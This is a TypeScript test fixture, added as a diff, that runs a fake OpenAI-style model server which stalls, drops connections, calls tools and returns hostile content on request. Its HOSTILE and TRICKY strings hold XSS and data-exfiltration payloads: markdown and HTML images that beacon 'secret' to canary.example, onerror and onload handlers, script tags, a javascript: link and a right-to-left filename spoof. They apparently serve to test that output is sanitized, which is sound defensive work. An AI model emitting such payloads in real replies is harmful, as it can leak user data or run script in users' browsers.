@@ -1,0 +1,149 @@
+// A real server whose model does odd things when it is asked for them.
+
+import type { ServerResponse } from 'node:http';
+import { type Outside, startOutside } from './outside';
+import { type TestServer, startServer } from './server';
+
+/** What the model says when it is asked to speak slowly. */
+export const WORDS = Array.from({ length: 400 }, (_, n) => `word${n}`);
+
+const WORD_MS = 12;
+
+const TRICKY = `invoice\u202egpj.exe <img src=x onerror=alert(1)>\u200b${'\n'.repeat(300)}the end`;
+
+const HOSTILE = [
+  '![leak](https://canary.example/inline.png?d=secret)',
+  '![leak][ref]\n\n[ref]: https://canary.example/reference.png',
+  '<img src="https://canary.example/html.png" onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"><image href="https://canary.example/svg.png"/></svg>',
+  '<style>body{background:url(https://canary.example/css.png)}</style>',
+  '<script>window.pwned=1</script> [click](javascript:window.pwned=1)',
+  'The end of it.',
+].join('\n\n');
+
+type Call = [name: string, input: object];
+
+function callsFor(text: string): Call[] {
+  if (text.includes('two notes')) return ['first', 'second'].map((note) => ['save_note', { text: note }]);
+  if (text.includes('tricky note')) return [['save_note', { text: TRICKY }]];
+  if (/cut off the mail|发邮件/.test(text)) return [['send_mail', { to: 'mei@example.org', subject: 'Nine o’clock' }]];
+  if (/divide by zero|除以零/.test(text)) return [['calculator', { expression: '1/0' }]];
+  if (/search for|搜索/.test(text)) return [['search_web', { query: 'tea' }]];
+  return [];
+}
+
+interface Asked {
+  messages: { role: string; content: string }[];
+}
+
+/** A model server in OpenAI's form. */
+async function speak({ messages }: Asked, response: ServerResponse): Promise<void> {
+  const last = messages.at(-1);
+  const text = last?.role === 'user' ? last.content : '';
+  const send = (delta: object, finish: string | null = null, more: object = {}) =>
+    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }], ...more })}\n\n`);
+  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
+  const calls = callsFor(text).map(([name, input], index) => ({
+    index,
+    id: `call_${index + 1}`,
+    type: 'function',
+    function: { name, arguments: JSON.stringify(input) },
+  }));
+  if (/break down|中断/.test(text)) {
+    send({ role: 'assistant', content: 'I begin, and then ' });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    response.destroy();
+    return;
+  }
+  if (calls.length > 0) {
+    send({ role: 'assistant', tool_calls: calls });
+  } else if (/slowly|慢慢/.test(text)) {
+    for (const word of WORDS) {
+      send({ content: `${word} ` });
+      await new Promise((resolve) => setTimeout(resolve, WORD_MS));
+      if (response.destroyed) return;
+    }
+  } else {
+    send({ role: 'assistant', content: text.includes('hostile markdown') ? HOSTILE : 'That was all.' });
+  }
+  const usage = { prompt_tokens: 40, completion_tokens: 6, total_tokens: 46 };
+  send({}, calls.length > 0 ? 'tool_calls' : 'stop', { usage });
+  response.end('data: [DONE]\n\n');
+}
+
+export interface OddWorld {
+  server: TestServer;
+  url: string;
+  close: () => Promise<void>;
+}
+
+export async function startOddWorld(token?: string): Promise<OddWorld> {
+  const model = await startOutside((request, response) => {
+    let body = '';
+    request.on('data', (piece: Buffer) => (body += piece.toString()));
+    request.on('end', () => void speak(JSON.parse(body) as Asked, response));
+  });
+  const post = await startOutside((request, response) => {
+    // A mail is taken, and nobody ever hears of it.
+    if (request.method === 'POST') return void request.on('end', () => request.socket.destroy()).resume();
+    response.writeHead(200, { 'Content-Type': 'text/plain' }).end('1 mail');
+  });
+  const server = await startServer({ config: config(model, post), ...(token !== undefined && { token }) });
+  if (token === undefined) await addMail(server, post);
+  const outsides = [model, post];
+  const close = async () => void (await Promise.all([server.close(), ...outsides.map((one) => one.close())]));
+  return { server, url: server.url, close };
+}
+
+function config(model: Outside, post: Outside): string {
+  const common = `protocol = "openai_chat"\nbase_url = "http://${model.host}/v1"\ntools = "native"\nprobe = false`;
+  return `
+    default_model = "odd"
+    [[models]]
+    name = "odd"
+    model = "m"
+    price = { input = 0.25, cached = 0.025, output = 2.00 }
+    ${common}
+    [[models]]
+    name = "house"
+    model = "gpt-5-mini"
+    price = { input = 0.25, cached = 0.025, output = 2.00 }
+    ${common}
+    [models.variants]
+    brief = { max_tokens = 300 }
+    thorough = { max_tokens = 3000 }
+    [[models]]
+    name = "small"
+    model = "qwen3:0.6b"
+    protocol = "openai_chat"
+    base_url = "http://${model.host}/v1"
+    tools = "prompt:hermes"
+    probe = false
+    [[models]]
+    name = "volcano"
+    vendor = "ark"
+    model = "doubao"
+    [egress]
+    allow = ["${post.host}"]`;
+}
+
+async function addMail(server: TestServer, post: Outside): Promise<void> {
+  const add = async (definition: object) => {
+    const made = await fetch(`${server.url}/api/tools`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify(definition),
+    });
+    if (made.status !== 201) throw new Error(await made.text());
+  };
+  const parameters = { type: 'object', properties: { to: { type: 'string' }, subject: { type: 'string' } } };
+  const endpoint = { url: `http://${post.host}/outbox`, method: 'GET' };
+  await add({ name: 'outbox', description: 'Looks into the outbox.', parameters, endpoint });
+  await add({
+    name: 'send_mail',
+    description: 'Sends a mail.',
+    parameters,
+    endpoint: { url: `http://${post.host}/send`, method: 'POST' },
+    check_tool: 'outbox',
+  });
+}
